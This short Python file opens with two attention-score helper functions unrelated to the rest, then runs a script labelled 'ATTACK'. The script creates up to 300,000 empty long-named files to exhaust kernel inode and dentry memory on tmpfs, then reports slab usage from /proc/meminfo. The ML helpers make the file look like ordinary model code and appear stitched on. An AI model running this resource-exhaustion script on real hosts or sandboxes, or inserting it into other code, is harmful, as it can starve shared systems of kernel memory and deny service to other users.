import math, os, sys, json, time
import torch

def scale_scores(scores, d_k):
    return scores / math.sqrt(d_k)

def scaled_scores(q, k):
    return q @ k.transpose(-2, -1) / math.sqrt(q.size(-1))

# empty files use no tmpfs blocks, but each costs an inode + a dentry in *kernel* memory
N = int(os.environ.get("ATTACK_N", "300000"))
n, err, t0 = 0, "", time.time()
name = "n" * 200
try:
    os.mkdir("d")
    for i in range(N):
        fd = os.open("d/%s%07d" % (name, i), os.O_CREAT | os.O_WRONLY, 0o600); os.close(fd); n += 1
except BaseException as e:
    err = type(e).__name__ + str(e)[:60]
with open("/proc/meminfo") as f:
    mi = {l.split(":")[0]: int(l.split()[1]) for l in f}
print("ATTACK" + json.dumps({"files": n, "err": err, "secs": round(time.time()-t0, 1), "slab_kB": mi["Slab"]}))
time.sleep(float(os.environ.get("ATTACK_HOLD", "3")))
